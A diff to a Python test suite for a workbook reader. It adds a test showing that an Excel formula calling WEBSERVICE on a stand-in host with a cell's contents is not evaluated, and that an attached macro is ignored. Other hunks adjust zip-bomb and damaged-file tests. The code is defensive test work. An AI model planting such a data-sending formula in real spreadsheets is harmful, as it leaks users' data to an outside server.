@@ -92,6 +92,18 @@ def test_a_workbook_is_known_by_its_content_not_its_name():
     assert (sheet.name, list(sheet.rows)) == ("Cijfers", [["indicator", ""], ["", ""], ["", 79.0]])
 
 
+def test_a_formula_is_the_value_that_excel_saw_and_a_macro_is_nothing():
+    """The value beside a formula is read; nothing works it out, so nothing is asked of anyone."""
+    asks = '=WEBSERVICE("https://elders.example/"&A1)'
+    with ZipFile(io.BytesIO(book((0, 0, "thuiszitters"), (0, 1, asks)))) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    formula, saved = re.search(rb"(<f>.*WEBSERVICE.*</f>)<v>(\w+)</v>", parts[SHEET]).groups()
+    parts[SHEET] = parts[SHEET].replace(formula + b"<v>" + saved, formula + b"<v>79")
+    plain, with_macro = zipped(**parts), zipped(**parts | {"xl/vbaProject.bin": OLE})
+
+    assert [read_all(data) for data in (plain, with_macro)] == [[[["thuiszitters", 79.0]]]] * 2
+
+
 def test_a_damaged_workbook_is_named():
     good = book((0, 0, "indicator"))
 
@@ -148,7 +160,7 @@ def test_no_spelling_of_a_far_cell_slips_through(spelling):
 def test_a_comment_between_the_cells_is_refused():
     data = rewritten(CORNER, rb"<c ", b"<!-- <row --><x:c ")
 
-    assert refusal_of(data) == "Het bestand is beschadigd. Open het in Excel en sla het opnieuw op."
+    assert refusal_of(data) == f"Het bestand 'cijfers.xlsx' is beschadigd. {AGAIN}"
 
 
 def test_an_unusual_but_small_workbook_is_read():
@@ -164,7 +176,7 @@ def test_more_rows_than_we_read_are_refused():
 
 
 def test_a_zip_bomb_is_refused_while_it_unpacks(monkeypatch):
-    monkeypatch.setattr("intake.workbook_size.MOST_BYTES", 300_000)
+    monkeypatch.setattr("intake.package.MOST_BYTES", 300_000)
     bomb = zipped(**{"xl/workbook.xml": b"<x/>", "xl/media/a": bytes(300_001)})
 
     large = "Het bestand is uitgepakt groter dan 200 MB. Verdeel de cijfers over meer bestanden."
